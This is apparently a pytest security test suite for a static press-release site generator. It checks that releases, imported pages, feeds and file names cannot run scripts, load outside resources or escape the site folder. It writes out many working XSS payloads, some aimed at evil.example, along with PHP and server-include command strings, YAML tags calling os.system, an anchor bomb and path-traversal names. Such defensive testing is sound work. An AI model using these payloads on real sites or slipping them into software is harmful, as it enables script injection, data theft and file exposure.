"""What a malicious release tries, and what becomes of it: nothing runs, styles, loads from elsewhere, leaves its place.

Each attack is written as Markdown for both engines, and comes as a web page that is imported; then every form in which
the release is published is looked at by a reader that shares no code with what takes such things out.
"""

import json
import re
import unicodedata
from html import unescape
from pathlib import Path

import pytest
import yaml

from generator.front_matter import read_front_matter, split_document
from generator.ingest import ImportOptions, import_sources
from tests.html_inspector import inspect, inspect_page
from tests.sites import AS_OF, CONFIG, build_at, files_in, problems_of, release, write_site

EVIL = "https://evil.example"

ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script that loads": f"<script src='{EVIL}/x.js'></script>",
    "a script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "a script that is not closed": "<script>alert(1)//",
    "a script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script in a comment": "<!--><script>alert(1)</script>-->",
    "a script in a title": "<title><script>alert(1)</script></title>",
    "a script behind a quotation mark": "\"'><script>alert(1)</script>",
    "a script behind NUL": "<\\0script>alert(1)</script>",
    "a script in noscript": '<noscript><p title="</noscript><script>alert(1)</script>">x</p></noscript>',
    "a template": "<template><script>alert(1)</script></template>",
    "an event handler": "<p onclick='alert(1)'>x</p>",
    "an event handler of a picture": "<img src=x onerror=alert(1)>",
    "an event handler behind a slash": "<img/onerror=alert(1)/src=x>",
    "an event handler of the page": "<body onload=alert(1)>x</body>",
    "an event handler of an unknown element": "<x-y onpointerenter=alert(1)>x</x-y>",
    "an event handler of details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "an event handler that takes focus": "<a href='#' autofocus tabindex=1 onfocus=alert(1)>x</a>",
    "an address that is a script": "<a href='javascript:alert(1)'>x</a>",
    "an address that is a script, in capitals": "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "an address that is a script, with blanks": "<a href=' java\tscript:alert(1)'>x</a>",
    "an address that is a script, in references": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "an address that is a script, in Markdown": "[x](javascript:alert(1))",
    "an address that is a script, in a definition": "[x][y]\n\n[y]: javascript:alert(1)",
    "an address that is a script, in brackets": "<javascript:alert(1)>",
    "an address that is VBScript": "<a href='vbscript:msgbox(1)'>x</a>",
    "an address with a document in it": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "a picture with a document in it": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "a file of the reader's": "<a href='file:///etc/passwd'>x</a><img src='file:///etc/passwd'>",
    "a drawing": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "a link in a drawing": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "an animation": "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "a drawing with HTML in it": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject>",
    "a drawing used from elsewhere": f"<svg><use href='{EVIL}/x.svg#x'></use></svg>",
    "a formula": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext>",
    "a link in a formula": "<math href='javascript:alert(1)'>x</math>",
    "a formula with a stylesheet": "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "a page that leads on": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "a policy of its own": "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "another base": f"<base href='{EVIL}/'>",
    "a form": f"<form action='{EVIL}'><input name=password><button>x</button></form>",
    "a form of somebody else": f"<button formaction='{EVIL}' form=q>x</button><input form=q formaction={EVIL}>",
    "a frame": f"<iframe src='{EVIL}'></iframe>",
    "a frame with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": f"<object data='{EVIL}/x.swf'><embed src='{EVIL}/x.swf'></object>",
    "an applet": f"<applet code='{EVIL}'>x</applet>",
    "a picture from elsewhere": f"<img src='{EVIL}/pixel.gif'><img srcset='{EVIL}/pixel.gif 2x'>",
    "a picture from elsewhere, in Markdown": f"![x]({EVIL}/pixel.gif)",
    "a picture without a scheme": "![x](//evil.example/pixel.gif) <img src='\\\\evil.example\\pixel.gif'>",
    "a film from elsewhere": f"<video src='{EVIL}/x' poster='{EVIL}/y'></video><audio src='{EVIL}/x'></audio>",
    "a style": f"<p style='background:url({EVIL}/x)'>x</p>",
    "a style that covers the page": "<div style='position:fixed;inset:0'><a href='https://evil.example/'>x</a></div>",
    "a stylesheet": f"<style>@import url({EVIL}/x); a[href^='a']{{background:url({EVIL}/a)}}</style>",
    "a stylesheet from elsewhere": f"<link rel=stylesheet href='{EVIL}/x.css'>",
    "a font from elsewhere": f"<style>@font-face{{font-family:x;src:url({EVIL}/x)}}</style><font face=x>x</font>",
    "a background": f"<table background='{EVIL}/x'><tr><td background='{EVIL}/x'>x</td></tr></table>",
    "a prefetch": f"<link rel=prefetch href='{EVIL}'><link rel=dns-prefetch href='{EVIL}'>",
    "a ping": f"<a href='https://example.org/' ping='{EVIL}'>x</a>",
    "a quotation's source": "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "an end of the page": "</p></div></main></body></html><script>alert(1)</script>",
    "an end of structured data": '</script><script>alert(1)</script>","@type":"x',
    "a processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><![CDATA[<script>alert(1)</script>]]>",
    "an instruction to servers": '<!--#exec cmd="id" --><?php system("id"); ?><% x %>',
}
NAMES = {f"attack-{number}": name for number, name in enumerate(ATTACKS)}
SLUGS = {name: slug for slug, name in NAMES.items()}

SETTINGS = CONFIG + "formats: [html, md, txt, ninjs]\nfeeds: {limit: 1000, formats: [atom, rss, json]}\n"


def everywhere(attack: str) -> str:
    """Return a release that tries an attack in its text and in every field that takes a text."""
    fields = {
        "title": f"Title {attack}",
        "subtitle": attack,
        "summary": attack,
        "dateline": f"{attack} --",
        "number": attack,
        "source": attack,
        "source_url": attack,
        "issuers": [attack],
        "tags": [attack],
        "people": [attack],
        "organizations": [attack],
        "places": [attack],
        "place": {"city": attack, "country": attack},
        "tickers": [attack],
        "identifiers": [attack],
        "quotes": [{"text": attack, "speaker": attack, "role": attack, "pull": True}],
        "contacts": [dict.fromkeys(("name", "organization", "role", "email", "phone", "url"), attack)],
        "disclosures": [{"kind": "fara", "text": attack, "registrant": attack, "principal": attack}],
        "notices": [{"kind": "reply", "text": attack, "url": attack}],
        "media": [{"url": attack, "alt": attack, "caption": attack, "credit": attack, "license": attack}],
        "corrections": [{"date": "2024-02-01", "note": attack}],
    }
    front = yaml.safe_dump(fields, allow_unicode=True, sort_keys=False)
    return f"---\n{front}date: 2024-01-11\n---\n\n{attack}\n\nAnd *words* after it.\n"


@pytest.fixture(scope="module", params=["python-markdown", "commonmark", "imported"])
def output(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """The site of all attacks: as Markdown for an engine, or as web pages that were imported."""
    folder = tmp_path_factory.mktemp(request.param)
    if request.param == "imported":
        site = write_site(folder / "site", {"config.yaml": SETTINGS})
        pages = {f"{slug}.html": web_page(slug, ATTACKS[name]) for slug, name in NAMES.items()}
        write_site(folder / "pages", {"config.yaml": None, **pages})
        results = list(import_sources(site, [folder / "pages"], ImportOptions(), now=AS_OF))
        assert [str(result) for result in results if result.status == "failed"] == []
    else:
        releases = {f"content/releases/{slug}.md": everywhere(ATTACKS[name]) for slug, name in NAMES.items()}
        settings = f"{SETTINGS}markdown: {{engine: {request.param}}}\n"
        site = write_site(folder / "site", {"config.yaml": settings, **releases})
    build_at(site)
    return files_in(site / "output")


def wrong(page: str) -> list[str]:
    """Return what is wrong with a page, whichever it is: search has a template, an old address leads on."""
    found = inspect_page(page)
    own = (
        {"template"}
        if "assets/search." in page
        else {"meta refresh"}
        if "<h1>This page has moved</h1>" in page
        else set()
    )
    return [said for said in found if said not in own]


def web_page(slug: str, attack: str) -> str:
    return (
        f"<!doctype html><html><head><title>Museum news {slug}</title></head><body><article><h1>Museum news {slug}</h1>"
        f"<p>ALDERCOMBE, 11 January 2024 -- The museum opens its doors again, and everybody is welcome to look.</p>"
        f"<div>{attack}</div><p>And there are words after it, for the text to be one.</p></article></body></html>"
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_is_in_any_form_of_the_release(attack: str, output: dict[str, bytes]) -> None:
    slug = SLUGS[attack]
    forms = {path: data.decode() for path, data in output.items() if f"/{slug}/" in path or f"-{slug}/" in path}
    assert {path.rpartition(".")[2] for path in forms} == {"html", "md", "txt", "json"}
    for path, text in forms.items():
        if path.endswith(".html"):
            assert wrong(text) == [], path
        if path.endswith(".json"):
            bodies = json.loads(text).get("bodies", [])
            assert [inspect(body["value"]) for body in bodies if body["contentType"] == "text/html"] in ([], [[]])


def test_no_page_of_the_site_has_anything_of_an_attack(output: dict[str, bytes]) -> None:
    pages = {path: data.decode() for path, data in output.items() if path.endswith(".html")}
    found = {path: said for path, text in pages.items() if (said := wrong(text))}
    assert len(pages) > 100
    assert found == {}


def test_no_feed_has_anything_of_an_attack(output: dict[str, bytes]) -> None:
    atom = re.findall(r'<content type="html">(.*?)</content>', output["feed.xml"].decode(), re.DOTALL)
    rss = re.findall(r"<content:encoded>(.*?)</content:encoded>", output["rss.xml"].decode(), re.DOTALL)
    entries = [item["content_html"] for item in json.loads(output["feed.json"])["items"]]
    assert len(atom) == len(entries) > 5  # pages that are imported with one text are variants of each other
    assert [said for text in (*map(unescape, atom), *map(unescape, rss), *entries) if (said := inspect(text))] == []


# Template syntax

TEMPLATES = (
    "{{ 7 * 191 }}",
    "{% include 'release.html' %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*191}",
    "<%= 7*191 %>",
    "#{7*191}",
)


@pytest.mark.parametrize("text", TEMPLATES)
def test_template_syntax_in_content_is_text(text: str, tmp_path: Path) -> None:
    quoted = json.dumps(text)
    site = write_site(
        tmp_path / "site",
        {
            "content/releases/a.md": release(quoted, f"Body {text} end.", summary=quoted, tags=f"[{quoted}]"),
            "content/pages/p.md": f"---\ntitle: {quoted}\n---\n{text}\n",
        },
    )
    build_at(site)
    for path in ("output/2024/01/a/index.html", "output/p/index.html", "output/index.html"):
        page = unescape((site / path).read_text())
        assert "1337" not in page
        assert text in page
        assert "<class" not in page


# YAML

TAGS = (
    "!!python/object/apply:os.system ['touch pwned']",
    "!!python/object/new:os.system [touch pwned]",
    "!!python/name:os.system",
    "!!python/module:os",
    "!!binary aGVsbG8=",
    "!custom {a: b}",
)


@pytest.mark.parametrize("value", TAGS)
@pytest.mark.parametrize("key", ["title", "tags", "summary", "colour"])
def test_a_yaml_tag_makes_no_object(key: str, value: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    title = "" if key == "title" else "title: A\n"
    data = f"---\n{title}date: 2024\n{key}: {value}\n---\n\nB.\n".encode()
    front, _ = read_front_matter(split_document(data, "a.md"), "a.md")
    values = [front.title, front.summary or "", *front.tags] if front else []
    assert {type(one) for one in values} <= {str}
    site = write_site(tmp_path / "site", {"content/releases/a.md": data})
    assert all("Traceback" not in line for line in problems_of(site))
    assert list(tmp_path.rglob("pwned")) == []


def bomb(levels: int) -> str:
    """Return lists of lists, by anchors: thirty levels would be 9 to the power of 30 texts."""
    first = f"a0: &a0 [{', '.join(['lol'] * 9)}]\n"
    nested = (f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 9)}]\n" for level in range(1, levels))
    return first + "".join(nested)


@pytest.mark.parametrize("end", ["tags: *a29", "title: *a29", "quotes: *a29", "x: {<<: *a29}", "related: [*a29, *a29]"])
def test_an_anchor_bomb_is_refused_and_does_not_go_off(end: str, tmp_path: Path) -> None:
    front = f"title: A\ndate: 2024\n{bomb(30)}{end}\n"
    site = write_site(tmp_path / "site", {"content/releases/a.md": f"---\n{front}---\n\nB.\n"})
    assert any(line.startswith("content/releases/a.md") for line in problems_of(site))


def test_an_anchor_that_holds_itself_is_refused(tmp_path: Path) -> None:
    site = write_site(
        tmp_path / "site", {"content/releases/a.md": "---\ntitle: A\ndate: 2024\ntags: &a [*a]\n---\n\nB.\n"}
    )
    assert any(line.startswith("content/releases/a.md") for line in problems_of(site))


def test_an_anchor_bomb_in_the_configuration_is_refused(tmp_path: Path) -> None:
    assert problems_of(write_site(tmp_path / "site", {"config.yaml": CONFIG + bomb(30) + "menu: *a29\n"}))


# Names

HOSTILE_NAMES = {
    "up": "../../../escape",
    "up, encoded": "..%2f..%2fescape",
    "a slash": "a/b/c",
    "a backslash": "..\\..\\escape",
    "the root": "/etc/passwd",
    "a NUL": "a\0b",
    "a line": "a\nb",
    "bidirectional controls": "a\u202egnp.exe\u2066b",
    "ten thousand characters": "x" * 10_000,
    "ten thousand of four bytes": "𝔵" * 10_000,
    "dots": "..",
    "a device": "CON",
    "a dot at the end": "name.",
    "a hidden file": ".gitignore",
    "a stream of Windows": "a:b",
    "a wildcard": "*?<>|\"",
    "an address": "https://evil.example/",
    "nothing": "\u200b\u2060",
}  # fmt: skip
FIELDS = ("slug", "id", "tags", "people", "organizations", "places", "aliases", "title", "speaker", "number")


@pytest.mark.parametrize("name", HOSTILE_NAMES)
@pytest.mark.parametrize("field", FIELDS)
def test_no_name_leaves_its_place(field: str, name: str, tmp_path: Path) -> None:
    value = HOSTILE_NAMES[name]
    fields: dict[str, object] = {"title": "A", "date": "2024-01-11"}
    if field == "speaker":
        fields["quotes"] = [{"text": "Words.", "speaker": value}]
    else:
        fields[field] = value if field in ("slug", "id", "title", "number") else [value]
    front = yaml.safe_dump(fields, allow_unicode=True)
    site = write_site(tmp_path / "site", {"content/releases/a.md": f"---\n{front}---\n\nWords.\n"})
    problems_of(site)
    outside = [path for path in tmp_path.rglob("*") if not path.is_relative_to(site)]
    assert outside == []
    assert {path.name for path in site.iterdir()} <= {"config.yaml", "content", "output", ".dateline"}
    for path in (site / "output").rglob("*"):
        for part in path.relative_to(site / "output").parts:
            assert len(part.encode()) <= 255
            assert part not in ("..", ".")
            assert not part.endswith((" ", "."))
            assert not any(unicodedata.category(letter) in ("Cc", "Cf") for letter in part), path
            assert not set(part) & set('\\:*?"<>|'), path
    pages = [path.read_text() for path in (site / "output").rglob("*.html")]
    assert [said for page in pages if (said := wrong(page))] == []


# Files

SECRET = "what lies outside"


@pytest.mark.parametrize(
    "link",
    [
        "content/media/a.png",
        "content/static/a.txt",
        "content/releases/b.md",
        "content/pages/b.md",
        "content/media/folder",
    ],
)
def test_a_link_out_of_the_site_is_not_followed(link: str, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    write_site(outside, {"config.yaml": None, "secret.txt": SECRET, "secret.md": release("Secret", SECRET)})
    media = "[{file: a.png, alt: x}, {file: folder/secret.txt, kind: document}]"
    site = write_site(tmp_path / "site", {"content/releases/a.md": release("A", "![x](/media/a.png)", media=media)})
    target = site / link
    target.parent.mkdir(parents=True, exist_ok=True)
    is_folder, suffix = link.endswith("folder"), "md" if link.endswith(".md") else "txt"
    target.symlink_to(outside if is_folder else outside / f"secret.{suffix}", target_is_directory=is_folder)
    problems = problems_of(site)
    assert any("leads out of" in line for line in problems) or is_folder
    published = files_in(site / "output") if (site / "output").exists() else {}
    assert [path for path, data in published.items() if SECRET.encode() in data] == []


@pytest.mark.parametrize(
    "name", ["../../outside.png", "/etc/passwd", "..\\..\\outside.png", "a\0.png", "~/x", "file:///etc/passwd"]
)
def test_a_medium_out_of_the_media_is_not_published(name: str, tmp_path: Path) -> None:
    write_site(tmp_path, {"config.yaml": None, "outside.png": SECRET, "site/content/outside.png": SECRET})
    fields = yaml.safe_dump({"title": "A", "date": "2024", "media": [{"file": name, "alt": "x"}]})
    body = f"![x]({name}) ![y](/media/../../outside.png)"
    site = write_site(tmp_path / "site", {"content/releases/a.md": f"---\n{fields}---\n\n{body}\n"})
    problems_of(site)
    published = files_in(site / "output") if (site / "output").exists() else {}
    assert [path for path, data in published.items() if SECRET.encode() in data or b"root:" in data] == []
